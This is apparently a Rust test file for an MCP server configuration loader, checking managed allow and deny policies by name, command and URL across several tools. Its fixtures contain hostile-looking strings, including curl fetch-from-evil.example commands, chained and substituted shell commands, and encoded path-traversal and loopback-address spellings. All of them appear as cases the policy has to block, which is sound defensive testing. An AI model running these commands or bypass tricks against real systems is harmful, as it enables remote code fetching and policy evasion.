//! Enterprise policy and managed servers, files several tools share, and the providers report:
//! discovery over real files.

#![allow(clippy::expect_used, clippy::unwrap_used)]

mod common;

use std::path::PathBuf;
use std::sync::Arc;

use common::{needing_approval, temp_root, trusting};
use mcp_config::{
    DenialRule, DiscoveryContext, DiscoveryOptions, DiscoveryResult, Level, SkipReason,
    TransportConfig, load_all_configs,
    providers::provider_report,
    source::{
        ConfigSource, SourceFile, parse_json, read_config_file, servers_under_key, standard_entry,
    },
};
use serde_json::{Value, json};

/// A project folder, a home and a folder of managed files under a fresh temporary directory.
struct World {
    root: PathBuf,
}

impl World {
    fn new() -> Self {
        Self {
            root: temp_root("policy", &["project", "home", "managed"]),
        }
    }

    fn write(&self, path: &str, value: &Value) -> PathBuf {
        let path = self.root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, serde_json::to_string_pretty(value).unwrap()).unwrap();
        path
    }

    fn ctx(&self) -> DiscoveryContext {
        DiscoveryContext::new("testapp", self.root.join("project"), self.root.join("home"))
            .with_managed_dir(self.root.join("managed"))
            .with_env([("HOST_PART", "corp.example")])
    }

    fn load(&self, options: &DiscoveryOptions) -> DiscoveryResult {
        load_all_configs(&self.ctx(), options)
    }

    /// Four servers in the user's Cursor file: two stdio, two remote.
    fn four_user_servers(&self) {
        self.write(
            "home/.cursor/mcp.json",
            &json!({"mcpServers": {
                "github": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"]},
                "shell": {"command": "bash", "args": ["-c", "serve"]},
                "internal": {"url": "https://MCP.corp.example/v1/mcp"},
                "outside": {"url": "https://mcp.elsewhere.org/mcp"},
            }}),
        );
    }
}

impl Drop for World {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

/// The names denied by policy, sorted, each with its message.
fn denied(found: &DiscoveryResult) -> Vec<(String, String)> {
    let mut denied: Vec<(String, String)> = found
        .skipped
        .iter()
        .filter_map(|skipped| match &skipped.reason {
            SkipReason::DeniedByPolicy(denial) => Some((skipped.name.clone(), denial.to_string())),
            _ => None,
        })
        .collect();
    denied.sort();
    denied
}

fn names(found: &DiscoveryResult) -> Vec<&str> {
    found.servers.keys().map(String::as_str).collect()
}

#[test]
fn a_denied_server_is_skipped_by_name_command_or_url_from_every_provider() {
    let world = World::new();
    world.four_user_servers();
    world.write(
        "managed/managed-settings.json",
        &json!({"deniedMcpServers": [
            {"serverName": "github"},
            {"serverCommand": ["bash", "-c", "serve"]},
            {"serverUrl": "https://*.elsewhere.org/*"},
        ]}),
    );
    let found = world.load(&trusting());
    assert_eq!(names(&found), ["internal"]);
    let denied = denied(&found);
    let names: Vec<&str> = denied.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, ["github", "outside", "shell"]);
    assert!(
        denied[0]
            .1
            .starts_with("denied by policy: deniedMcpServers in ")
    );
    assert!(
        denied[0].1.ends_with("has serverName \"github\""),
        "{denied:?}"
    );
    assert!(denied[1].1.contains("serverUrl"), "{denied:?}");
    assert!(denied[2].1.contains("serverCommand"), "{denied:?}");
}

#[test]
fn an_allow_list_with_commands_or_urls_must_be_matched_by_them_not_by_a_name() {
    let world = World::new();
    world.four_user_servers();
    world.write(
        "managed/managed-settings.json",
        &json!({"allowedMcpServers": [
            // A stdio server needs a command entry, since there is one: the name is not enough.
            {"serverName": "shell"},
            {"serverCommand": ["npx", "-y", "@modelcontextprotocol/server-github"]},
            // Expanded before comparing; the host is compared without regard to case.
            {"serverUrl": "https://mcp.${HOST_PART}/*"},
        ]}),
    );
    let found = world.load(&trusting());
    assert_eq!(names(&found), ["github", "internal"]);
    let denied = denied(&found);
    assert_eq!(denied[0].0, "outside");
    assert!(
        denied[0]
            .1
            .contains("has no serverUrl entry matching its URL")
    );
    assert_eq!(denied[1].0, "shell");
    assert!(
        denied[1]
            .1
            .contains("has no serverCommand entry matching its command")
    );
}

#[test]
fn a_project_server_the_policy_denies_is_denied_rather_than_waiting_for_approval() {
    let world = World::new();
    world.write(
        "project/.mcp.json",
        &json!({"mcpServers": {
            "evil": {"command": "curl", "args": ["https://evil.example/x.sh"]},
            "fine": {"command": "fine-mcp"},
        }}),
    );
    world.write(
        "managed/managed-settings.json",
        &json!({"deniedMcpServers": [{"serverCommand": ["curl", "https://evil.example/x.sh"]}]}),
    );
    let found = world.load(&DiscoveryOptions::default());
    assert_eq!(needing_approval(&found), ["fine"]);
    assert_eq!(denied(&found)[0].0, "evil");
}

#[test]
fn names_allow_when_the_list_has_no_commands_or_urls_and_an_empty_list_allows_none() {
    let world = World::new();
    world.four_user_servers();
    world.write(
        "managed/managed-settings.json",
        &json!({"allowedMcpServers": [{"serverName": "shell"}, {"serverName": "outside"}]}),
    );
    assert_eq!(names(&world.load(&trusting())), ["outside", "shell"]);

    world.write(
        "managed/managed-settings.json",
        &json!({"allowedMcpServers": []}),
    );
    let found = world.load(&trusting());
    assert!(found.servers.is_empty());
    assert_eq!(denied(&found).len(), 4);
}

#[test]
fn drop_in_files_join_the_lists_and_a_deny_beats_an_allow() {
    let world = World::new();
    world.four_user_servers();
    world.write(
        "managed/managed-settings.json",
        &json!({"allowedMcpServers": [{"serverName": "github"}]}),
    );
    world.write(
        "managed/managed-settings.d/20-more.json",
        &json!({"allowedMcpServers": [{"serverName": "internal"}]}),
    );
    world.write(
        "managed/managed-settings.d/30-deny.json",
        &json!({"deniedMcpServers": [{"serverName": "github"}]}),
    );
    // Hidden and non-JSON files are not policy files.
    world.write(
        "managed/managed-settings.d/.hidden.json",
        &json!({"allowedMcpServers": [{"serverName": "shell"}]}),
    );
    world.write(
        "managed/managed-settings.d/notes.txt",
        &json!({"allowedMcpServers": [{"serverName": "outside"}]}),
    );
    let found = world.load(&trusting());
    assert_eq!(names(&found), ["internal"]);
    let (name, message) = &denied(&found)[0];
    assert_eq!(name, "github");
    assert!(message.contains("30-deny.json"), "{message}");
}

#[test]
fn a_broken_policy_file_denies_every_server_and_is_reported() {
    let world = World::new();
    world.four_user_servers();
    let path = world.write(
        "managed/managed-settings.json",
        &json!({"deniedMcpServers": [{"serverName": "x", "serverUrl": "https://x"}]}),
    );
    let found = world.load(&trusting());
    assert!(found.servers.is_empty());
    let denied = denied(&found);
    assert_eq!(denied.len(), 4);
    assert!(denied[0].1.contains("cannot be used"), "{denied:?}");
    let error = &found.file_errors[0];
    assert_eq!(error.path, path);
    let message = error.error.to_string();
    assert!(
        message.contains("entry 0 of \"deniedMcpServers\""),
        "{message}"
    );

    // Not JSON at all: the same.
    std::fs::write(&path, "{ not json").unwrap();
    let found = world.load(&trusting());
    assert!(found.servers.is_empty());
    assert!(matches!(
        &found.skipped[0].reason,
        SkipReason::DeniedByPolicy(denial) if denial.rule == DenialRule::Unreadable
    ));
}

#[test]
fn a_rule_is_shown_as_written_never_with_its_variables_filled() {
    let world = World::new();
    world.write(
        "home/.cursor/mcp.json",
        &json!({"mcpServers": {"box": {"command": "docker", "args": ["-e", "T=corp.example"]}}}),
    );
    world.write(
        "managed/managed-settings.json",
        &json!({"deniedMcpServers": [{"serverCommand": ["docker", "-e", "T=${HOST_PART}"]}]}),
    );
    let found = world.load(&trusting());
    let (name, message) = &denied(&found)[0];
    assert_eq!(name, "box");
    assert!(message.contains("T=${HOST_PART}"), "{message}");
    assert!(!message.contains("corp.example"), "{message}");
}

#[test]
fn lists_set_to_null_are_lists_not_set() {
    let world = World::new();
    world.four_user_servers();
    world.write(
        "managed/managed-settings.json",
        &json!({"allowedMcpServers": null, "deniedMcpServers": null, "model": "x"}),
    );
    let found = world.load(&trusting());
    assert_eq!(found.servers.len(), 4);
    assert!(found.file_errors.is_empty());
}

#[test]
fn without_a_managed_folder_nothing_is_denied_and_no_managed_file_is_read() {
    let world = World::new();
    world.four_user_servers();
    world.write(
        "managed/managed-settings.json",
        &json!({"allowedMcpServers": []}),
    );
    let ctx = DiscoveryContext::new(
        "testapp",
        world.root.join("project"),
        world.root.join("home"),
    );
    let found = load_all_configs(&ctx, &trusting());
    assert_eq!(found.servers.len(), 4);
}

#[test]
fn managed_servers_have_their_own_level_and_win_their_names() {
    let world = World::new();
    // The native user file is the highest-priority provider; the managed file still wins.
    world.write(
        "home/.config/testapp/mcp.json",
        &json!({"mcpServers": {"docs": {"command": "users-docs"}}}),
    );
    let managed = world.write(
        "managed/managed-mcp.json",
        &json!({"mcpServers": {
            "docs": {"type": "http", "url": "https://docs.corp.example/mcp"},
            "tickets": {"type": "sse", "url": "https://tickets.corp.example/sse"},
        }}),
    );
    let found = world.load(&DiscoveryOptions::default());
    let docs = &found.servers["docs"];
    assert_eq!(docs.source.meta.path, managed);
    assert_eq!(docs.source.meta.level, Level::Managed);
    assert_eq!(docs.source.meta.provider, "claude-code");
    assert!(
        !docs.source.meta.in_project_folder,
        "never waits for approval"
    );
    assert!(matches!(docs.config.transport, TransportConfig::Http(_)));
    assert_eq!(docs.source.shadowed[0].provider, "native");
    assert!(found.servers.contains_key("tickets"));
}

#[test]
fn claude_codes_per_project_lists_switch_its_own_servers_on_and_off() {
    let world = World::new();
    let project = world.root.join("project").display().to_string();
    world.write(
        "home/.claude.json",
        &json!({
            "mcpServers": {
                "chrome": {"command": "chrome-mcp", "disabled": true},
                "notes": {"command": "notes-mcp"},
                "both": {"command": "both-mcp"},
            },
            "projects": {project.clone(): {
                "enabledMcpServers": ["chrome", "both"],
                "disabledMcpServers": ["notes", "both"],
            }},
        }),
    );
    let found = world.load(&trusting());
    assert_eq!(names(&found), ["both", "chrome"]);
    assert_eq!(
        found.skip_of("notes").map(|skipped| &skipped.reason),
        Some(&SkipReason::Disabled)
    );

    world.write(
        "home/.claude.json",
        &json!({"projects": {project: {"enabledMcpServers": "chrome"}}}),
    );
    let found = world.load(&trusting());
    let message = found.file_errors[0].error.to_string();
    assert!(message.contains("enabledMcpServers"), "{message}");
}

/// Another tool that reads the project's `.mcp.json` too, as Copilot CLI and Qwen Code do.
struct PortableFile;

impl ConfigSource for PortableFile {
    fn id(&self) -> &str {
        "portable"
    }

    fn name(&self) -> &str {
        "Portable tool"
    }

    fn load(&self, ctx: &DiscoveryContext) -> Vec<SourceFile> {
        let path = ctx.cwd().join(".mcp.json");
        let Some(text) = read_config_file(&path).unwrap() else {
            return Vec::new();
        };
        let root = parse_json(&path, &text).unwrap();
        let servers =
            servers_under_key(&path, &root, "mcpServers", |_, entry| standard_entry(entry));
        vec![SourceFile::new(path, Level::Project, servers)]
    }
}

#[test]
fn a_file_several_tools_read_lists_its_servers_once_naming_every_tool() {
    let world = World::new();
    let path = world.write(
        "project/.mcp.json",
        &json!({"mcpServers": {"shared": {"command": "shared-mcp"}}}),
    );
    let options = trusting().with_source_last(Arc::new(PortableFile));
    let found = world.load(&options);
    let meta = &found.servers["shared"].source.meta;
    assert_eq!((meta.provider.as_str(), &meta.path), ("claude-code", &path));
    let ids = |meta: &mcp_config::SourceMeta| -> Vec<String> {
        meta.also_used_by
            .iter()
            .map(|tool| tool.id.clone())
            .collect()
    };
    assert_eq!(ids(meta), ["vscode", "copilot-cli", "qwen", "portable"]);
    assert!(
        found.servers["shared"].source.shadowed.is_empty(),
        "the same definition is not listed again under the other tools"
    );

    // Without Claude Code, the next tool that reads it lists it, naming the rest.
    let found = world.load(&options.disable_provider("claude-code"));
    let meta = &found.servers["shared"].source.meta;
    assert_eq!(meta.provider, "vscode");
    assert_eq!(ids(meta), ["copilot-cli", "qwen", "portable"]);
    assert!(found.servers["shared"].source.shadowed.is_empty());
}

#[test]
fn a_shared_file_only_a_later_tool_can_read_is_that_tools() {
    let world = World::new();
    // A comment: Claude Code's strict JSON refuses it, Qwen Code's JSON with comments reads it.
    let path = world.root.join("project/.mcp.json");
    std::fs::write(
        &path,
        "{\n  // ours\n  \"mcpServers\": {\"shared\": {\"command\": \"shared-mcp\"}}\n}\n",
    )
    .unwrap();
    let found = world.load(&trusting());
    let meta = &found.servers["shared"].source.meta;
    assert_eq!((meta.provider.as_str(), &meta.path), ("qwen", &path));
    assert!(meta.also_used_by.is_empty(), "{:?}", meta.also_used_by);
    assert!(found.file_errors.is_empty(), "{:?}", found.file_errors);
}

#[test]
fn the_report_names_every_file_looked_for_whether_it_exists_and_its_servers() {
    let world = World::new();
    world.four_user_servers();
    world.write(
        "home/.kiro/settings/mcp.json",
        &json!({"mcpServers": "oops"}),
    );
    let options = DiscoveryOptions::default().disable_provider("codex");
    let report = provider_report(&world.ctx(), &options);
    let cursor = report
        .iter()
        .find(|provider| provider.id == "cursor")
        .unwrap();
    assert!(cursor.enabled);
    let files: Vec<(String, bool, usize)> = cursor
        .files
        .iter()
        .map(|file| {
            let path = file.path.strip_prefix(&world.root).unwrap();
            (path.display().to_string(), file.exists, file.servers)
        })
        .collect();
    assert_eq!(
        files,
        [
            ("project/.cursor/mcp.json".to_owned(), false, 0),
            ("home/.cursor/mcp.json".to_owned(), true, 4),
        ]
    );
    let kiro = report
        .iter()
        .find(|provider| provider.id == "kiro")
        .unwrap();
    let broken = kiro.files.iter().find(|file| file.exists).unwrap();
    assert!(broken.error.as_deref().unwrap().contains("mcpServers"));
    let codex = report
        .iter()
        .find(|provider| provider.id == "codex")
        .unwrap();
    assert!(!codex.enabled && codex.files.is_empty());
    let ids: Vec<&str> = report.iter().map(|provider| provider.id.as_str()).collect();
    let built_in: Vec<&str> = mcp_config::providers::built_in()
        .iter()
        .map(|source| source.id())
        .collect();
    assert_eq!(ids, built_in);
}

#[test]
fn the_readmes_table_of_providers_is_the_built_in_list() {
    let readme = include_str!("../../README.md");
    let start = "<!-- providers:start -->\n";
    let end = "<!-- providers:end -->";
    let from = readme.find(start).expect("the README marks its table") + start.len();
    let to = readme[from..].find(end).expect("the table's end") + from;
    let expected = mcp_config::providers::readme_table();
    assert_eq!(
        &readme[from..to],
        expected,
        "the README's table of providers differs from providers::readme_table(); paste its \
         output between the markers:\n{expected}"
    );
    for source in mcp_config::providers::built_in() {
        assert!(
            !source.files().is_empty(),
            "{} lists its files",
            source.id()
        );
        assert!(
            !source.written_from().is_empty(),
            "{} cites its source",
            source.id()
        );
    }
}

/// The user's Cursor file holding `servers`, loaded with `policy` as the managed settings;
/// the names of the servers that run and of those denied, each with its message.
fn judged(world: &World, servers: &Value, policy: &Value) -> (Vec<String>, Vec<(String, String)>) {
    world.write("home/.cursor/mcp.json", &json!({"mcpServers": servers}));
    world.write("managed/managed-settings.json", policy);
    let found = world.load(&trusting());
    let running = found.servers.keys().cloned().collect();
    (running, denied(&found))
}

#[test]
fn a_url_deny_rule_matches_the_path_every_way_a_server_may_read_it() {
    let world = World::new();
    let spellings = [
        "http://127.0.0.1:8000/%61dmin/mcp",
        "http://127.0.0.1:8000//admin/mcp",
        "http://127.0.0.1:8000/public/%2e%2e/admin/mcp",
        "http://127.0.0.1:8000/public%2F..%2Fadmin/mcp",
        "http://127.0.0.1:8000/public/..%2Fadmin/mcp",
        "http://127.0.0.1:8000/%2561dmin/mcp",
        "http://127.0.0.1:8000/admin%2Fmcp",
    ];
    let mut servers = serde_json::Map::new();
    for (index, url) in spellings.iter().enumerate() {
        servers.insert(format!("s{index}"), json!({"url": url}));
    }
    servers.insert(
        "public".to_owned(),
        json!({"url": "http://127.0.0.1:8000/public/mcp"}),
    );
    let (running, denied) = judged(
        &world,
        &Value::Object(servers),
        &json!({"deniedMcpServers": [{"serverUrl": "http://127.0.0.1:8000/admin/*"}]}),
    );
    assert_eq!(running, ["public"], "{denied:?}");
    assert_eq!(denied.len(), spellings.len(), "{denied:?}");
    for (_, message) in &denied {
        assert!(
            message.contains("has serverUrl \"http://127.0.0.1:8000/admin/*\""),
            "{message}"
        );
    }
}

#[test]
fn a_url_allow_rule_allows_only_when_every_reading_of_the_path_matches() {
    let world = World::new();
    let (running, denied) = judged(
        &world,
        &json!({
            "plain": {"url": "http://127.0.0.1:8000/public/mcp"},
            "encoded": {"url": "http://127.0.0.1:8000/p%75blic/mcp"},
            "escapes": {"url": "http://127.0.0.1:8000/public/..%2Fadmin/mcp"},
            "doubled": {"url": "http://127.0.0.1:8000/public/%252e%252e/admin/mcp"},
        }),
        &json!({"allowedMcpServers": [{"serverUrl": "http://127.0.0.1:8000/public/*"}]}),
    );
    // `p%75blic` is `public` to the server but not as written: not every reading matches.
    assert_eq!(running, ["plain"], "{denied:?}");
    let names: Vec<&str> = denied.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, ["doubled", "encoded", "escapes"]);
}

#[test]
fn a_deny_rule_on_an_address_matches_every_spelling_that_reaches_it() {
    let world = World::new();
    let (running, denied) = judged(
        &world,
        &json!({
            "mapped": {"url": "http://[::ffff:127.0.0.1]:8000/mcp"},
            "mapped-hex": {"url": "http://[::ffff:7f00:1]:8000/mcp"},
            "any": {"url": "http://0.0.0.0:8000/mcp"},
            "decimal": {"url": "http://2130706433:8000/mcp"},
            "short": {"url": "http://127.1:8000/mcp"},
            // A name is judged on the addresses it resolves to, when it is connected.
            "name": {"url": "http://localhost:8000/mcp"},
            "v6-any": {"url": "http://[::]:8000/mcp"},
            "elsewhere": {"url": "http://127.0.0.2:8000/mcp"},
        }),
        &json!({"deniedMcpServers": [
            {"serverUrl": "http://127.0.0.1:*"},
            {"serverUrl": "http://[::1]:*"},
        ]}),
    );
    assert_eq!(running, ["elsewhere", "name"], "{denied:?}");
    assert_eq!(denied.len(), 6, "{denied:?}");
}

#[test]
fn an_address_allow_rule_allows_its_other_spellings() {
    let world = World::new();
    let (running, denied) = judged(
        &world,
        &json!({
            "mapped": {"url": "http://[::ffff:127.0.0.1]:8000/mcp"},
            "any": {"url": "http://0.0.0.0:8000/mcp"},
            "other": {"url": "http://10.0.0.1:8000/mcp"},
        }),
        &json!({"allowedMcpServers": [{"serverUrl": "http://127.0.0.1:8000/*"}]}),
    );
    assert_eq!(running, ["any", "mapped"], "{denied:?}");
}

/// A stdio server whose `env.TOKEN` is the `!command` `command`.
fn with_command_env(command: &str) -> Value {
    json!({"command": "fine-mcp", "args": ["--serve"], "env": {"TOKEN": format!("!{command}")}})
}

#[test]
fn a_server_command_allow_list_covers_every_command_an_entry_runs() {
    let world = World::new();
    let (running, denied) = judged(
        &world,
        &json!({
            "listed": with_command_env("op read op://vault/token"),
            "unlisted": with_command_env("curl https://evil.example/x.sh"),
            "chained": with_command_env("op read op://vault/token; curl https://evil.example"),
            "substituted": with_command_env("op read $(curl https://evil.example)"),
            "quoted": with_command_env("op read 'op://vault/token'"),
            "helper": {"url": "https://mcp.corp.example/mcp", "headers": {"X": "y"},
                       "headersHelper": "curl https://evil.example/h"},
            "header": {"url": "https://mcp.corp.example/mcp",
                       "headers": {"Authorization": "!op read op://vault/token"}},
            "literal": {"command": "fine-mcp", "args": ["--serve"], "env": {"TOKEN": "plain"}},
        }),
        &json!({"allowedMcpServers": [
            {"serverCommand": ["fine-mcp", "--serve"]},
            {"serverCommand": ["op", "read", "op://vault/token"]},
            {"serverUrl": "https://mcp.corp.example/*"},
        ]}),
    );
    assert_eq!(
        running,
        ["header", "listed", "literal", "quoted"],
        "{denied:?}"
    );
    let message = |name: &str| {
        denied
            .iter()
            .find(|(denied, _)| denied == name)
            .map(|(_, message)| message.clone())
            .unwrap_or_else(|| panic!("{name} is denied: {denied:?}"))
    };
    assert!(
        message("unlisted").contains("has no serverCommand entry matching its env.TOKEN !command"),
        "{}",
        message("unlisted")
    );
    assert!(
        message("chained").contains("shell syntax"),
        "{}",
        message("chained")
    );
    assert!(message("substituted").contains("shell syntax"));
    assert!(
        message("helper").contains("its headersHelper"),
        "{}",
        message("helper")
    );
    // The command text is never shown: it may hold a secret.
    assert!(
        !message("unlisted").contains("evil"),
        "{}",
        message("unlisted")
    );
}

#[test]
fn a_server_command_deny_rule_matches_a_command_an_entry_runs() {
    let world = World::new();
    let (running, denied) = judged(
        &world,
        &json!({
            "plain": with_command_env("curl https://evil.example/x.sh"),
            "hidden": with_command_env("true && curl https://evil.example/x.sh > /dev/null"),
            "helper": {"url": "https://mcp.corp.example/mcp", "headers": {"X": "y"},
                       "headersHelper": "curl 'https://evil.example/x.sh'"},
            "other": with_command_env("op read op://vault/token"),
        }),
        &json!({"deniedMcpServers": [{"serverCommand": ["curl", "https://evil.example/x.sh"]}]}),
    );
    assert_eq!(running, ["other"], "{denied:?}");
    assert!(
        denied
            .iter()
            .all(|(_, message)| message.contains("serverCommand")),
        "{denied:?}"
    );
}

#[test]
fn a_remote_server_carries_what_the_policy_says_of_the_addresses_it_connects_to() {
    use std::net::IpAddr;

    let world = World::new();
    world.write(
        "home/.cursor/mcp.json",
        &json!({"mcpServers": {
            "local": {"url": "http://localhost:8000/mcp?key=query-secret"},
            "ten": {"url": "http://10.evil.example/mcp"},
            "named": {"url": "https://mcp.corp.example/mcp"},
            "stdio": {"command": "fine-mcp"},
        }}),
    );
    world.write(
        "managed/managed-settings.json",
        &json!({
            "deniedMcpServers": [
                {"serverUrl": "http://127.0.0.1:*"},
                {"serverUrl": "http://*/admin/*"},
            ],
            "allowedMcpServers": [
                {"serverUrl": "http://10.*"},
                {"serverUrl": "http://localhost:*"},
                {"serverUrl": "https://*.corp.example/*"},
                {"serverCommand": ["fine-mcp"]},
            ],
        }),
    );
    let found = world.load(&trusting());
    assert_eq!(names(&found), ["local", "named", "stdio", "ten"]);
    let reach = |name: &str| found.servers[name].config.reach_policy().unwrap();
    let address = |text: &str| text.parse::<IpAddr>().unwrap();

    // A name resolving to a denied address, in any of its spellings.
    for denied in ["127.0.0.1", "::ffff:127.0.0.1", "0.0.0.0"] {
        let denial = reach("local").denies_address(address(denied)).unwrap();
        let message = denial.to_string();
        assert!(
            message.contains("has serverUrl \"http://127.0.0.1:*\", which matches "),
            "{message}"
        );
        assert!(message.contains("an address it connects to"), "{message}");
        assert!(!message.contains("query-secret"), "{message}");
    }
    assert_eq!(reach("local").denies_address(address("::1")), None);
    // Allowed by an address pattern: every address must be allowed by one.
    assert_eq!(reach("ten").denies_address(address("10.1.2.3")), None);
    let denial = reach("ten").denies_address(address("8.8.8.8")).unwrap();
    assert!(
        denial
            .to_string()
            .contains("has no serverUrl entry matching 8.8.8.8, an address it connects to"),
        "{denial}"
    );
    // Allowed by a pattern naming hosts: the name vouches for what it resolves to.
    assert_eq!(reach("named").denies_address(address("10.9.9.9")), None);
    // A redirect is judged as the server's own URL.
    let denial = reach("local")
        .denies_redirect("http://localhost:8000/%61dmin/mcp?key=query-secret")
        .unwrap();
    let message = denial.to_string();
    assert!(message.contains("where a redirect sent it"), "{message}");
    assert!(!message.contains("query-secret"), "{message}");
    assert!(
        reach("named")
            .denies_redirect("https://elsewhere.example/mcp")
            .is_some()
    );
    assert_eq!(
        reach("named").denies_redirect("https://mcp.corp.example/mcp/"),
        None
    );
    assert!(found.servers["stdio"].config.reach_policy().is_none());

    // Without managed settings there is nothing to check.
    std::fs::remove_file(world.root.join("managed/managed-settings.json")).unwrap();
    let found = world.load(&trusting());
    assert!(found.servers["local"].config.reach_policy().is_none());
}
